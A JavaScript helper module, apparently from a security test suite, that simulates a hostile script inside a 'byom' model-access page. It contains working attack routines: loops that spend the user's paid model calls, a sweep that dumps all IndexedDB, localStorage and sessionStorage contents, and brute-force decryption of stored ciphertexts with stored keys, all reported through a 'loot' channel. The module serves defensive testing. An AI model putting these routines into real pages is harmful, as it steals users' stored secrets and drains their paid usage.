/**
 * The second half of what a hostile script has at hand: spending, sweeping, catching. Served behind in-page.mjs, inside
 * the same function, whose names it uses.
 */
/* global apply, nativePromise, describe, isSecret, spy, spyAll, before, watchPorts, watchFrames, whenDrawn, walk, wait, within, ownKeys, getPrototypeOf */
const say = globalThis.__loot;
const nativeSlice = String.prototype.slice;

/** One paid call of the page, as a hostile script makes it. @returns how it ended, as a text */
async function burnOne(request = {}) {
  try {
    const given = {
      feature: 'burn',
      category: 'worker',
      prompt: 'Tell me about bridges. They are long and old.',
      maxTokens: 200,
      whenBlocked: 'refuse',
      ...request,
    };
    if (given.messages) delete given.prompt;
    const result = await within(globalThis.byom.call(given).result, 15_000);
    return result ? 'answered' : 'silent';
  } catch (error) {
    return `refused ${error?.code ?? error}`;
  }
}

/** One after the other; six refusals in a row are an answer. */
async function burn(count, request = {}) {
  let refused = 0;
  for (let index = 0; index < count && refused < 6; index++)
    refused = (await burnOne(request)) === 'answered' ? 0 : refused + 1;
}

const burnTogether = (count, request) => nativePromise.all(Array.from({ length: count }, () => burnOne(request)));

/** Makes the page use its ports, so that they are caught. @returns those that were */
async function catchPorts(ports) {
  globalThis.byom.open('budget');
  await burnOne({ maxTokens: 20 });
  await wait(100);
  globalThis.byom.close();
  return ports;
}

const rowsOf = (store) =>
  new nativePromise((resolve) => {
    const all = store.getAll();
    all.onsuccess = () => resolve(all.result);
    all.onerror = () => resolve([]);
  });

/** Everything in every database, in one flat list. */
async function readDatabases() {
  const found = [];
  for (const { name } of await indexedDB.databases()) {
    const database = await new nativePromise((resolve) => {
      indexedDB.open(name).onsuccess = ({ target }) => resolve(target.result);
    });
    for (const store of database.objectStoreNames)
      for (const record of await rowsOf(database.transaction(store).objectStore(store)))
        found.push(record, ...Object.values(Object(record)));
    database.close();
  }
  return found;
}

/** Everything that is stored, and every ciphertext tried with every key that lies beside it: how it is bound is public. */
async function sweepStores(loot) {
  const records = await readDatabases();
  loot([records, { ...localStorage }, { ...sessionStorage }]);
  const provider = new URL(document.querySelector('meta[name="byom-provider"]').content).origin;
  const additionalData = new TextEncoder().encode(`byom sealed 1 ${provider}`);
  for (const key of records.filter((record) => record instanceof CryptoKey))
    for (const { iv, ct } of records.filter((record) => record?.ct && record.iv))
      for (const more of [{}, { additionalData }])
        await crypto.subtle.decrypt({ name: 'AES-GCM', iv, ...more }, key, ct).then(loot, () => {});
}

function makeTools(row, evil) {
  const loot = (value) => say(`${row}\n${apply(nativeSlice, describe(value), [0, 400_000])}`);
  return {
    loot,
    evil: `${evil}/${row}`,
    evilOrigin: evil,
    describe,
    isSecret,
    spy: (owner, name) => spy(owner, name, loot),
    spyAll: (owner, except) => spyAll(owner, loot, except),
    before,
    watchPorts,
    catchPorts,
    sweepStores: () => sweepStores(loot),
    watchFrames,
    whenDrawn,
    walk,
    wait,
    within,
    burn,
    burnOne,
    burnTogether,
    ownKeys,
    getPrototypeOf,
  };
}

void makeTools; // for site.mjs, which puts the attacks behind it
